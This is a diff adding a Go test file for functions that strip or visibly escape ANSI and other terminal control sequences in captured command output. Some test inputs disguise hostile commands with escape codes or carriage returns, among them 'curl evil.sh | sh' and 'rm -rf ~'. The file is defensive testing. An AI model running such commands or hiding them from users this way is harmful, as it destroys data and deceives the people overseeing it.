@@ -0,0 +1,97 @@
+package tools
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestSanitizeOutputFixtures(t *testing.T) {
+	// Captured with ls --color=always -F and git -c color.ui=always diff
+	tests := []struct {
+		file string
+		want string
+	}{
+		{"ls_color.txt", "README.md\ndocs/\nlink.go@\nmain.go\nrun.sh*\nsrc/\n"},
+		{"git_diff_color.txt", "diff --git a/main.go b/main.go\n" +
+			"index d6e0156..4a73987 100644\n" +
+			"--- a/main.go\n" +
+			"+++ b/main.go\n" +
+			"@@ -1,5 +1,5 @@\n" +
+			" package main\n" +
+			" \n" +
+			" func main() {\n" +
+			"-\tprintln(\"hi\")\n" +
+			"+\tprintln(\"hello\")\n" +
+			" }\n"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.file, func(t *testing.T) {
+			data, err := os.ReadFile(filepath.Join("testdata", tt.file))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !strings.Contains(string(data), "\x1b[") {
+				t.Fatal("fixture should contain color codes")
+			}
+			if got := SanitizeOutput(string(data)); got != tt.want {
+				t.Errorf("SanitizeOutput() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSanitizeOutput(t *testing.T) {
+	tests := []struct {
+		name string
+		in   string
+		want string
+	}{
+		{"plain text unchanged", "a\tb\nc", "a\tb\nc"},
+		{"progress bar", "10%\r50%\r100%\r\ndone", "10%\n50%\n100%\ndone"},
+		{"cursor movement", "\x1b[2K\x1b[1Gline", "line"},
+		{"hyperlink", "\x1b]8;;https://example.com\x1b\\link\x1b]8;;\x1b\\", "link"},
+		{"window title", "\x1b]0;title\x07text", "text"},
+		{"two-byte sequence", "\x1b7saved\x1b8", "saved"},
+		{"control characters", "bell\x07 back\x08 nul\x00 del\x7f", `bell\x07 back\x08 nul\x00 del\x7f`},
+		{"unterminated sequence", "text\x1b[31", "text"},
+		{"utf-8 kept", "héllo ✓", "héllo ✓"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := SanitizeOutput(tt.in); got != tt.want {
+				t.Errorf("SanitizeOutput(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestEscapeControls(t *testing.T) {
+	tests := []struct {
+		name string
+		in   string
+		want string
+	}{
+		{"plain text unchanged", "ls -la\tsrc\nhéllo ✓", "ls -la\tsrc\nhéllo ✓"},
+		{"OSC 0 title change", "echo hi\x1b]0;pwned\x07", "echo hi␛]0;pwned␇"},
+		{"OSC ended by ST", "\x1b]2;title\x1b\\rm -rf ~", `␛]2;title␛\rm -rf ~`},
+		{"clear screen and home", "\x1b[2J\x1b[Hharmless", "␛[2J␛[Hharmless"},
+		{"cursor up hides a line", "rm -rf /tmp/x\x1b[1A\x1b[2Kls", "rm -rf /tmp/x␛[1A␛[2Kls"},
+		{"carriage return overwrite", "curl evil.sh | sh\rls", "curl evil.sh | sh␍ls"},
+		{"backspace and del", "rmx\x08\x08 del\x7f", "rmx␈␈ del␡"},
+		{"C1 CSI", "a\u009b2Jb", `a\u009b2Jb`},
+		{"invalid UTF-8", "a\x9b2J", `a\x9b2J`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := EscapeControls(tt.in)
+			if got != tt.want {
+				t.Errorf("EscapeControls(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+			if strings.ContainsFunc(got, func(r rune) bool { return isUnsafeControl(r) || (r >= 0x80 && r < 0xa0) }) {
+				t.Errorf("EscapeControls(%q) left a control character: %q", tt.in, got)
+			}
+		})
+	}
+}